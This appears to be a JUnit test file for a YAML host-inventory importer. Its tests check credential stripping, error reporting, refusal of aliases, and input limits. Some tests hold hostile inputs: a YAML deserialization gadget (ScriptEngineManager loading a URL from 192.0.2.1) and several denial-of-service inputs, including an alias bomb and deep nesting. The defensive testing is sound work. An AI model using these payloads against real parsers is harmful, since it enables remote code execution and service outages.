package org.ipsecworkbench.hostconnection.known;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

class YamlInventoryTest {
    private static List<String> names(HostImport.Result read) {
        return read.hosts().stream().map(KnownHost::name).toList();
    }

    @Test
    void passwordsAndVaultsAreNotTaken() {
        HostImport.Result read = HostImport.parse("""
                all:
                  hosts:
                    a: {ansible_user: alice, ansible_password: geheim}
                    b:
                      ansible_user: bob
                      ansible_password: !vault |
                        $ANSIBLE_VAULT;1.1;AES256
                        6162
                """);
        assertEquals("alice", read.hosts().get(0).user());
        assertEquals("bob", read.hosts().get(1).user());
        assertTrue(read.problems().toString().contains("Passwords are not taken"));
        assertFalse(read.toString().contains("geheim"));
    }

    @Test
    void whatStandsBeforeDamageIsKeptAndItsLineTold() {
        HostImport.Result read = HostImport.parse("all:\n  hosts:\n    a:\n    b:\n    c:\n\t  d: x\n");
        assertEquals(List.of("a", "b"), names(read));
        assertTrue(
                read.problems().get(0).startsWith("line 6: "), read.problems().toString());
    }

    @Test
    void aliasesAreNotFollowed() {
        HostImport.Result read = HostImport.parse("all:\n  hosts:\n    a: &v {ansible_user: x}\n    b: *v\n");
        assertEquals(List.of("a", "b"), names(read));
        assertEquals("", read.hosts().get(1).user());
        assertTrue(
                read.problems().get(0).startsWith("line 4: Aliases"),
                read.problems().toString());
    }

    @Test
    void noObjectIsMade() {
        HostImport.Result read = HostImport.parse(
                "all:\n  hosts:\n    a: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1/\"]]\n");
        assertEquals(List.of("a"), names(read));
    }

    @Test
    void boundlessFilesAreBounded() {
        StringBuilder laughs = new StringBuilder("a0: &a0 {hosts: {x: }}\n");
        for (int i = 1; i < 1000; i++) {
            laughs.append("a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ",").repeat(9) + "]\n");
        }
        String deep = "all: " + "[".repeat(200_000);
        String deepGroups = "{hosts: {h: }, children: {g: ".repeat(2000);
        String wide = "all:\n  hosts:\n" + "    a[0:999999][0:999999]:\n    b[0:99999]:\n".repeat(200);
        String many = "all:\n  hosts:\n" + "    \"h\": {}\n".repeat(300_000);
        for (String text : List.of(laughs.toString(), deep, "all: " + deepGroups, wide, many)) {
            HostImport.Result read = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> HostImport.parse(text));
            assertTrue(read.hosts().size() <= KnownHosts.MAX_HOSTS);
            assertFalse(read.problems().isEmpty());
            assertTrue(read.problems().size() <= 102);
        }
    }
}
